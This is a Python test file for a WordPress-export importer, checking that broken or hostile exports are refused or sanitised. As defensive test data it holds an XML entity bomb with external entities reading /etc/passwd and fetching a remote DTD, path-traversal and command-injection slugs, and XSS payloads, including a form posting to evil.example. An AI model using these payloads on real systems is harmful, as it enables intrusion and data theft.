"""Exports that are broken, or that want to break something: each post is imported safely or
refused by name, the others are imported, and nothing is written outside of --into."""


import pytest

from plugins.front_matter.catalogue import scan

from .importing import bare_site, body_of, imported
from .wxr import SITE, comment, export, item

TWO = export(item(1, "Le premier.", "Premier"), item(2, "Le second.", "Second"))
BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "http://203.0.113.9/x.dtd">'
    "%out;]>\n<rss"
)


def bodies(done):
    return [body_of(text).strip() for text in done.files.values()]


def test_entity_bombs_and_external_entities_are_never_expanded(tmp_path):
    text = TWO.replace("<rss", BOMB).replace(
        "<title><![CDATA[Premier]]>", "<title>&d; &file; &eacute;t&eacute; R&D &#233; &amp;"
    )
    done = imported(tmp_path, text)
    assert 'title: "&d; &file; été R&D é &"' in done.files["articles/2009/billet-1.md"]
    assert done.outcome.passage.notes == ["a DOCTYPE refused: its entities are not read"]
    assert bodies(done) == ["Le premier.", "Le second."]
    assert done.outcome.lost == 0


@pytest.mark.parametrize("end", ["Le sec", "<wp:post_id>2", "\t<item>\n\t\t<title><![CDATA[Sec"])
def test_an_export_cut_in_the_middle_gives_the_rest_and_is_no_success(tmp_path, end):
    cut = TWO[: TWO.rindex(end) + len(end)]
    done = imported(tmp_path, cut)
    assert bodies(done) == ["Le premier."]
    (refused,) = done.outcome.refused
    assert refused.why == "the export is cut inside of it"
    assert refused.what == ('"Sec"' if end.endswith("Sec") else '"Second"')
    assert done.outcome.failures == [
        "the export does not end with </rss>: it is cut, and what followed is not in it"
    ]
    assert not done.data["success"]


def test_an_export_cut_between_two_items_is_no_success_either(tmp_path):
    done = imported(tmp_path, TWO[: TWO.index("</item>") + len("</item>")])
    assert bodies(done) == ["Le premier."] and not done.data["success"]


def test_an_item_never_closed_takes_no_other_with_it(tmp_path):
    text = TWO.replace("</item>", "", 1)
    done = imported(tmp_path, text)
    assert bodies(done) == ["Le second."]
    assert [str(one.what) for one in done.outcome.refused] == ['"Premier"']


def test_something_before_the_root_is_skipped(tmp_path):
    done = imported(tmp_path, "\n\nNotice: Undefined index in x.php\n<br />\n" + TWO)
    assert bodies(done) == ["Le premier.", "Le second."]


def test_control_characters_cut_nothing_short(tmp_path):
    text = TWO.replace("Le premier.", "Le\x00 pre\x08mier, \x1f suite &#0;&#x1f; et\x0c fin.")
    done = imported(tmp_path, text)
    assert bodies(done)[0] == "Le premier, suite et fin."
    assert done.outcome.records[0].notes == ["4 control characters left out"]
    assert done.outcome.lost == 0


ACCENTS = "Été à l’œuvre : « oui » — 10 €"


@pytest.mark.parametrize(("declared", "actual", "note"), [
    ("UTF-8", "utf-8", []),
    ("ISO-8859-1", "utf-8", ["read as UTF-8, though declared iso8859-1"]),
    ("UTF-8", "cp1252", ["read as UTF-8 with bytes of Windows-1252"]),
    ("ISO-8859-1", "cp1252", ["read as Windows-1252"]),
    ("windows-1252", "cp1252", ["read as cp1252"]),
    ("no-such-thing", "utf-8", []),
    ("UTF-16", "utf-16", []),
    ("UTF-32", "utf-32", []),
])
def test_a_wrong_declared_encoding_is_seen_through(tmp_path, declared, actual, note):
    text = export(item(1, ACCENTS, "Été")).replace('"UTF-8"', f'"{declared}"')
    done = imported(tmp_path, text.encode(actual))
    assert body_of(done.only).strip() == ACCENTS
    assert done.outcome.records[0].notes == note


def test_bytes_of_two_encodings_in_one_post(tmp_path):
    data = export(item(1, "Un été XX", "T")).encode().replace(b"XX", "déjà".encode("cp1252"))
    done = imported(tmp_path, data)
    assert body_of(done.only).strip() == "Un été déjà"


SLUGS = [
    "../../../etc/passwd", "a/../../b", "$(touch x)", "`id`", "a;b|c", "%2e%2e%2f%2e%2e%2fx",
    "..%5c..%5cx", "%00", "con:", "a" * 3000, "🎉", "%f0%9f%8e%89-2", "é", "%C3%A9t%C3%A9",
    "-rf", ".htaccess", "_redirects", "x\ny", "?p=1", "#x", "", "x%", "%zz", "index.html",
    "categories/a/", "images/a.png", "C:\\x", "//evil.example/x",
]


def test_no_slug_and_no_address_leads_out(tmp_path):
    items = [
        item(number, f"Texte {number}.", f"Titre {number}", post_name=slug, link=f"{SITE}/{slug}")
        for number, slug in enumerate(SLUGS, 1)
    ]
    before = {path for path in tmp_path.parent.rglob("*") if path.is_file()}
    done = imported(tmp_path, export(*items))
    assert done.outcome.imported == len(SLUGS) and done.outcome.lost == 0
    written = {path for path in tmp_path.parent.rglob("*") if path.is_file()} - before
    outside = {p for p in written if not p.resolve().is_relative_to(done.content.resolve())}
    assert outside == {tmp_path / "export.xml"}
    settings = {**bare_site().settings, "PATH": str(done.content)}
    found = scan(done.content, settings)
    assert [f for f in found.findings if f.level == "error"] == []
    addresses = [entry.url.casefold() for entry in found.entries.values()]
    assert len(set(addresses)) == len(SLUGS)
    assert not [one for one in addresses if ".." in one or one.startswith("/")]


def test_two_posts_for_one_address_get_one_each(tmp_path):
    links = ("/2009/x/", "/2009/X", "/2009/x/index.html", "/2009/x.html", "/2009/x.html")
    done = imported(tmp_path, export(*(
        item(number, "A", f"Titre {number}", link=SITE + link)
        for number, link in enumerate(links, 1)
    )))
    addresses = [record.address for record in done.outcome.records]
    assert addresses == [
        "2009/x/", "2009/X-2/", "2009/x/index-2.html", "2009/x.html", "2009/x-2.html"
    ]
    assert done.outcome.moved == {
        f"{SITE}/2009/X": "/2009/X-2/", f"{SITE}/2009/x/index.html": "/2009/x/index-2.html",
        f"{SITE}/2009/x.html": "/2009/x-2.html",
    }
    assert done.outcome.records[1].notes == [
        'its address /2009/X/ is that of "Titre 1"; it is at /2009/X-2/'
    ]


def test_a_hundred_posts_for_one_address_get_one_each(tmp_path):
    links = ["/2009/x/", "/categories/a/", "/images/a.png", "/x.html", "/x.html/y/"]
    done = imported(tmp_path, export(*(
        item(100 * at + number, "A", "T", link=SITE + link, post_name="x")
        for at, link in enumerate(links) for number in range(1, 81)
    )))
    addresses = [record.address.casefold() for record in done.outcome.records]
    assert len(set(addresses)) == len(done.files) == 400
    assert not [one for one in addresses if one.startswith(("categories/", "images/"))]
    assert "blogue/a-81/" in addresses and "x-80.html" in addresses


NEVER = "0000-00-00 00:00:00"


@pytest.mark.parametrize(("fields", "date", "note"), [
    ({}, "2009-05-12T09:30:00-04:00", None),
    ({"post_date": NEVER}, "2009-05-12T09:30:00-04:00", None),
    ({"post_date": NEVER, "post_date_gmt": NEVER}, "2009-05-12T09:30:00-04:00", "pubDate"),
    ({"post_date": NEVER, "post_date_gmt": NEVER,
      "pubDate": "Mon, 30 Nov -0001 00:00:00 +0000"},
     "2009-05-12T09:30:00-04:00", "the date it was modified"),
    ({"post_date": "2009-13-45 99:99:99", "post_date_gmt": "x", "pubDate": "",
      "post_modified": "", "post_modified_gmt": ""},
     "1970-01-01T00:00:00+00:00", "nothing: no date is known"),
])
def test_dates_that_are_none(tmp_path, fields, date, note):
    done = imported(tmp_path, export(item(1, **fields)))
    assert f"date: {date}\n" in done.only
    assert done.outcome.records[0].notes == (
        [f"no date of its own: dated from {note}"] if note else []
    )


def test_empty_titles_are_made_of_the_text(tmp_path):
    done = imported(tmp_path, export(
        item(1, "Un deux trois quatre cinq six sept huit neuf.", " "), item(2, "", ""),
    ))
    titles = [record.title for record in done.outcome.records]
    assert titles == ["Un deux trois quatre cinq six sept huit…", "Sans titre"]


ACTIVE = (
    "<script>alert(1)</script>Avant <a href=\"javascript:alert(1)\">un</a> "
    "<a href='java\tscript:alert(1)' onclick=\"alert(1)\">deux</a> "
    "<img src='x' onerror='alert(1)'> <iframe src='javascript:alert(1)'></iframe>"
    "<form action='https://evil.example/'><input name='a'></form>"
    "<svg onload='alert(1)'><text>x</text></svg> <b style='background:url(x)'>gras</b>"
)


def test_scripts_addresses_and_event_attributes_are_refused_by_name(tmp_path):
    done = imported(tmp_path, export(item(
        1, ACTIVE, "<script>alert(1)</script>Titre <b onclick=x>gras</b>",
        excerpt="<script>alert(1)</script>Un extrait", creator="<script>x</script>",
        comments=[comment(
            1, ACTIVE, author="<script>x</script>Luc", author_url="javascript:alert(1)",
        )],
    )))
    text = done.only
    for sign in ("<script", "javascript:", "onclick", "onerror", "onload", "<iframe", "<form",
                 "<svg", "alert", "style="):
        assert sign not in text, sign
    assert 'title: "Titre gras"' in text and 'summary: "Un extrait"' in text
    named = done.outcome.records[0].accounted
    for name in ("script", "javascript: link: un", "event attribute: onclick", "svg",
                 "javascript: iframe", "form: action=https://evil.example/",
                 "script in a comment", "javascript: in a comment", "onclick in a comment",
                 "address of a comment's author in a comment"):
        assert named[name], name
    assert done.outcome.lost == 0 and done.data["success"]


def test_a_post_of_thirty_megabytes_is_refused_by_name_and_the_rest_imported(tmp_path):
    done = imported(tmp_path, export(item(1, "mot " * 7_900_000, "Long"), item(2, "Court.")))
    assert list(done.files) == ["articles/2009/billet-2.md"]
    (record,) = [one for one in done.outcome.records if one.state == "refused"]
    assert record.title == "Long"
    assert next(iter(record.accounted)).startswith("body too long")


def test_comments_in_a_circle_are_all_there(tmp_path):
    done = imported(tmp_path, export(item(1, comments=[
        comment(1, "un", 3), comment(2, "deux", 1), comment(3, "trois", 2),
        comment(4, "soi", 4), comment(5, "orphelin", 99),
    ])))
    count = done.outcome.records[0].figures["comments"]
    assert (count.into, count.out, count.lost) == (5, 5, {})


def test_a_file_that_is_no_export(tmp_path):
    from tools.wordpress.export.read import NoExport

    with pytest.raises(NoExport, match=r"export\.xml is no WordPress export: no <channel> and"):
        imported(tmp_path, "<html><p>Bonjour")


def test_nothing_imported_is_never_a_success(tmp_path):
    for text in (export(), export(item(1, status="trash")), export(item(1, post_type="livre"))):
        done = imported(tmp_path, text)
        assert done.data["verdict"] == ["0 posts imported: an import of nothing is no success"]


def test_a_link_in_the_way_is_not_followed(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "content/articles").mkdir(parents=True)
    (tmp_path / "content/articles/2009").symlink_to(elsewhere)
    done = imported(tmp_path, export(item(1)))
    assert list(elsewhere.iterdir()) == []
    assert done.outcome.records[0].accounted == {"a link in the way of its file": 1}
    assert not done.data["success"]


def test_uploads_are_never_left(tmp_path):
    (tmp_path / "secret.png").write_bytes(b"\x89PNG")
    uploads = tmp_path / "uploads/2009"
    uploads.mkdir(parents=True)
    (uploads / "link.png").symlink_to(tmp_path / "secret.png")
    address = f"{SITE}/wp-content/uploads"
    done = imported(tmp_path, export(item(1, (
        f'<img src="{address}/../../secret.png"> <img src="{address}/2009/link.png"> '
        f'<img src="{address}/%2e%2e/secret.png"> <a href="{address}/2009/x.php">php</a>'
    ))), uploads={"2009/x.php": b"<?php", "2009/faux.png": b"<html>"})
    assert not (done.content / "images").exists()
    assert done.outcome.files == 0


def test_personal_data_is_never_written(tmp_path):
    done = imported(tmp_path, export(item(
        1, post_password="sesame", comments=[  # noqa: S106  # a made-up one
            comment(1, author="luc@courriel.example"), comment(2, approved="spam"),
        ],
    )))
    everything = b"".join(p.read_bytes() for p in done.content.rglob("*") if p.is_file())
    everything += done.text.encode() + str(done.data).encode()
    for secret in (b"courriel.example", b"203.0.113.7", b"sesame", b"claire@blogue.example"):
        assert secret not in everything, secret
    assert 'author: "luc"' in done.only
